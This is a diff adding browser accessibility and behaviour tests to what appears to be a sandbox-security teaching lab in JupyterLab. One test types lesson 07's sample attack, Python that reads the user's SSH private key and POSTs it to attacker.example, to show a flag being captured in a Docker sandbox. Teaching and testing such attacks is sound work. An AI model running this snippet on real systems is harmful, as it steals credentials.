@@ -1,5 +1,6 @@
 """The learner lab in a real browser: every lesson runs top to bottom unanswered and passes axe-core; keyboard alone
-drives a prediction; the lab shows no instructor tools; links work.
+drives a prediction and a policy editor; lesson 02 reads at 414 px; lesson 07's ``%%attack`` cell captures a flag in Docker; the lab shows no
+instructor tools; links work.
 
 The lab is what ``make lab`` and Binder serve: the learners' notebooks as
 ``scripts/learner-lessons`` writes them (no answers filled in), with the learner
@@ -29,7 +30,7 @@ from typing import Any
 
 import pytest
 
-from labdriver import NOTEBOOK, ROOT, Lab, axe_violations, chromium, jupyterlab, never_run, open_notebook, require_browser, run_all, serious
+from labdriver import NOTEBOOK, ROOT, RUN_ALL_MS, Lab, axe_violations, chromium, jupyterlab, never_run, open_notebook, require_browser, run_all, serious
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
@@ -39,6 +40,9 @@ REPORTS = ROOT / "artifacts" / "a11y"
 # Lessons known to stop Run All with nothing answered: none (lesson 05's graded answers no longer raise in the
 # released copy). A lesson added here is an expected failure of the "never stops" assertion only.
 STOPS_TODAY: set[str] = set()
+
+# A policy typed into lesson 03's editor by keyboard: no home directory readable, no network (lesson 01's goal).
+TYPED_POLICY = '{"filesystem": {"denyRead": ["/home/user"]}, "network": {"allowedDomains": []}}'
 
 
 
@@ -141,6 +145,170 @@ def test_keyboard_alone_drives_a_prediction(lab: Lab, page: Any) -> None:
     rows = result.locator("tr[data-probe]")
     predicted = [rows.nth(i).get_attribute("data-predicted") for i in range(rows.count())]
     assert predicted == ["succeeded"] + ["blocked"] * (count - 2) + ["succeeded"], predicted
+
+
+def _in(page: Any, selector: str) -> bool:
+    return bool(page.evaluate("s => !!document.activeElement && !!document.activeElement.closest(s)", selector))
+
+
+def test_keyboard_alone_edits_runs_and_leaves_a_policy_editor(lab: Lab, page: Any) -> None:
+    """Lesson 03's editor by keyboard: from the cell above, J then Tab into the text; type a policy; Tab to "Probe"
+    (also while the text is invalid: a disabled button would leave the Tab order, and Tab would land in the next
+    cell's text box); Enter runs it; Tab leaves the widget forwards, into what follows it."""
+    open_notebook(page, lab.url("03-container-alone/container-alone.ipynb"))
+    run_all(page)
+    editor = page.locator(".sl-policy-editor").first
+    index = page.evaluate(f"() => [...document.querySelectorAll('{NOTEBOOK} .jp-Cell')]"
+                          ".indexOf(document.querySelector('.sl-policy-editor').closest('.jp-Cell'))")
+    assert index > 0, index
+    # Where a keyboard user stands after reading the cell above: that cell selected, in command mode.
+    page.locator(f"{NOTEBOOK} .jp-Cell").nth(index - 1).locator(".jp-Cell-inputCollapser, .jp-InputPrompt").first.click()
+    page.keyboard.press("j")  # JupyterLab: select the next cell (the editor's)
+    page.keyboard.press("Tab")
+    assert _in(page, ".sl-policy-editor .sl-policy-text"), _focused(page)
+
+    text = editor.locator(".sl-policy-text textarea")
+    button = editor.locator("button.sl-probe-button")
+    # An invalid policy: the status names the problem, and Tab still reaches the button, which runs nothing.
+    page.keyboard.press("Control+A")
+    page.keyboard.type('{"filesystem": {"denyReed": []}}')
+    editor.locator(".sl-policy-status", has_text="denyReed").wait_for(timeout=30_000)
+    page.keyboard.press("Tab")
+    assert page.evaluate("() => document.activeElement.matches('.sl-probe-button')"), _focused(page)
+    page.keyboard.press("Enter")
+    editor.locator(".sl-backend-note", has_text="Fix the errors above first").wait_for(timeout=30_000)
+    assert editor.locator(".sl-probe-board .sl-board[data-sandbox]").count() == 0
+
+    # Back into the text, the policy typed in full, and straight on to the button (no wait for the kernel's check).
+    page.keyboard.press("Shift+Tab")
+    assert _in(page, ".sl-policy-text"), _focused(page)
+    page.keyboard.press("Control+A")
+    page.keyboard.type(TYPED_POLICY)
+    page.keyboard.press("Tab")
+    assert page.evaluate("() => document.activeElement.matches('.sl-probe-button')"), _focused(page)
+    assert json.loads(text.input_value()) == json.loads(TYPED_POLICY)
+    page.keyboard.press("Enter")
+    board = editor.locator(".sl-probe-board .sl-board[data-sandbox]")
+    board.wait_for(state="attached", timeout=120_000)
+    assert editor.locator('.sl-probe-board tr[data-probe="read-ssh-key"]').first.get_attribute("data-outcome") == "blocked"
+    assert button.is_enabled()
+
+    # Out past the widget: Tab goes through the board's details and then leaves the editor, forwards.
+    for _ in range(25):
+        page.keyboard.press("Tab")
+        if not _in(page, ".sl-policy-editor"):
+            break
+    assert not _in(page, ".sl-policy-editor"), f"25 presses of Tab never left the editor: {_focused(page)}"
+    after = page.evaluate("() => !!(document.querySelector('.sl-policy-editor').compareDocumentPosition(document.activeElement)"
+                          " & Node.DOCUMENT_POSITION_FOLLOWING)")
+    assert after, _focused(page)
+
+
+# Lesson 07's level 1 (the plain container), typed into its ``%%attack 1`` cell: read the key, POST it out.
+LEVEL_1_ATTACK = [
+    "import urllib.request as u",
+    'key = open("/home/user/.ssh/id_rsa", "rb").read()',
+    'print(u.urlopen(u.Request("https://attacker.example/loot", data=key), timeout=5).status)',
+]
+
+
+@pytest.fixture(scope="module")
+def docker_lab(learner: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
+    """The learner lab as ``make lab`` serves it with Docker: lesson 07's attacks run in real sandboxes."""
+    with jupyterlab(learner, tmp_path_factory.mktemp("jupyter-docker"), learner=True, backend="docker") as running:
+        yield running
+
+
+def _active_cell_text(page: Any) -> str:
+    return str(page.evaluate(
+        f"() => {{ const c = document.querySelector('{NOTEBOOK} .jp-Cell.jp-mod-active');"
+        " return c ? [...c.querySelectorAll('.jp-InputArea-editor .cm-line')].map(l => l.textContent).join('\\n') : ''; }"))
+
+
+@pytest.mark.docker
+def test_an_attack_cell_run_by_keyboard_captures_level_1_in_docker(docker_lab: Lab, browser: Any) -> None:
+    """Lesson 07 by keyboard: Shift-Enter through the lesson (its setup cell registers ``%%attack``) to the
+    ``%%attack 1`` cell; Enter, select all, type an attack, Shift-Enter: the flag is captured in Docker."""
+    page = browser.new_page()
+    try:
+        open_notebook(page, docker_lab.url("07-break-it-yourself/break-it.ipynb"))
+        page.locator(f"{NOTEBOOK} .jp-Cell").first.locator(".jp-Cell-inputCollapser, .jp-InputPrompt").first.click()
+        for _ in range(30):  # each Shift-Enter runs the selected cell (the setup's code, or a Markdown cell) and moves on
+            if _active_cell_text(page).startswith("%%attack 1"):
+                break
+            page.keyboard.press("Shift+Enter")
+        else:
+            raise AssertionError(f"Shift-Enter never reached the %%attack 1 cell: {_active_cell_text(page)[:80]!r}")
+        index = page.evaluate(f"() => [...document.querySelectorAll('{NOTEBOOK} .jp-Cell')]"
+                              f".indexOf(document.querySelector('{NOTEBOOK} .jp-Cell.jp-mod-active'))")
+        cell = page.locator(f"{NOTEBOOK} .jp-Cell").nth(index)  # this cell, not whichever is active after Shift-Enter
+        page.keyboard.press("Enter")  # edit mode
+        page.keyboard.press("Control+A")
+        page.keyboard.type("%%attack 1")
+        for line in LEVEL_1_ATTACK:
+            page.keyboard.press("Enter")
+            page.keyboard.type(line)
+        typed = _active_cell_text(page).splitlines()
+        assert typed == ["%%attack 1", *LEVEL_1_ATTACK], typed  # what the editor holds (no doubled brackets)
+        page.keyboard.press("Shift+Enter")
+        outcome = cell.locator(".sl-attack-outcome[data-captured]")
+        outcome.wait_for(state="attached", timeout=RUN_ALL_MS)
+        text = outcome.inner_text()
+        assert outcome.get_attribute("data-captured") == "true", text
+        assert "Captured" in text and "attacker.example" in text and "FLAG{" in text, text
+        REPORTS.parent.joinpath("screenshots").mkdir(parents=True, exist_ok=True)
+        cell.screenshot(path=str(REPORTS.parent / "screenshots" / "lesson-07-attack-cell-level-1.png"))
+    finally:
+        page.close()
+        docker_lab.shut_down_kernels()
+
+
+# What the 414 px check measures: lesson 02's three kinds of course view.
+NARROW_VIEWS = (".sl-side-by-side", ".sl-probe-board", ".sl-policy-editor")
+NARROW_SHARE = 0.80  # of the viewport: JupyterLab's left activity bar (33 px) and its right one stay (see the test)
+
+
+def test_lesson_02_is_readable_at_414_px(lab: Lab, page: Any) -> None:
+    """A phone's width: with the file browser closed (Ctrl-B, JupyterLab's own), each board and the editor use
+    most of the screen (the course's views drop the prompt column below 600 px: ``palette.NARROW_CSS``), nothing
+    in them is wider than its box, and no text in them is under 12 px. Screenshots go to artifacts/a11y/."""
+    page.set_viewport_size({"width": 414, "height": 900})
+    open_notebook(page, lab.url("02-naive-vs-secure/naive-vs-secure.ipynb"))
+    run_all(page)
+    if page.evaluate("() => !document.getElementById('jp-left-stack').classList.contains('lm-mod-hidden')"):
+        page.locator(f"{NOTEBOOK} .jp-Cell").first.click(position={"x": 30, "y": 5})
+        page.keyboard.press("Control+b")  # JupyterLab: show or hide the left sidebar
+        page.wait_for_function("() => document.getElementById('jp-left-stack').classList.contains('lm-mod-hidden')")
+    page.evaluate("() => document.querySelectorAll('.jp-OutputArea details').forEach(d => { d.open = true; })")
+    page.wait_for_timeout(500)  # the lab lays out again
+    REPORTS.mkdir(parents=True, exist_ok=True)
+    measured = page.evaluate(
+        """views => views.map(sel => {
+             const el = document.querySelector(sel);
+             if (!el) return {sel, missing: true};
+             const out = el.closest('.jp-OutputArea-output');
+             const overflow = [el, ...el.querySelectorAll('*')].filter(e => !e.closest('svg') && e.clientWidth > 0
+                 && e.scrollWidth > e.clientWidth + 1 && getComputedStyle(e).overflowX !== 'auto')
+               .map(e => `${e.tagName.toLowerCase()}.${e.className}: ${e.scrollWidth} > ${e.clientWidth}`);
+             const small = [...el.querySelectorAll('*')].filter(e => !e.closest('svg')
+                 && [...e.childNodes].some(n => n.nodeType === 3 && n.textContent.trim())
+                 && parseFloat(getComputedStyle(e).fontSize) < 12)
+               .map(e => `${e.tagName.toLowerCase()} ${getComputedStyle(e).fontSize}: ${e.textContent.trim().slice(0, 30)}`);
+             return {sel, width: out.getBoundingClientRect().width, overflow: overflow.slice(0, 5), small: small.slice(0, 5)};
+           })""", list(NARROW_VIEWS))
+    for n, m in enumerate(measured):
+        assert not m.get("missing"), m
+        page.locator(m["sel"]).first.scroll_into_view_if_needed()
+        page.screenshot(path=str(REPORTS / f"lesson-02-414px-{n}-{m['sel'].strip('.')}.png"))
+    (REPORTS / "lesson-02-414px.json").write_text(json.dumps(measured, indent=1))
+    for m in measured:
+        assert m["width"] >= NARROW_SHARE * 414, f"{m['sel']}: its output is {m['width']:.0f} of 414 px"
+        assert not m["overflow"], f"{m['sel']}: wider than its box at 414 px: {m['overflow']}"
+        assert not m["small"], f"{m['sel']}: text under 12 px at 414 px: {m['small']}"
+    # Only narrow screens change: at a desktop's width the prompt column is back.
+    page.set_viewport_size({"width": 1400, "height": 900})
+    page.wait_for_timeout(500)
+    assert page.locator(f"{NOTEBOOK} .jp-OutputPrompt").first.is_visible()
 
 
 def test_the_learner_lab_has_no_instructor_tools_but_keeps_validate(lab: Lab, page: Any) -> None:
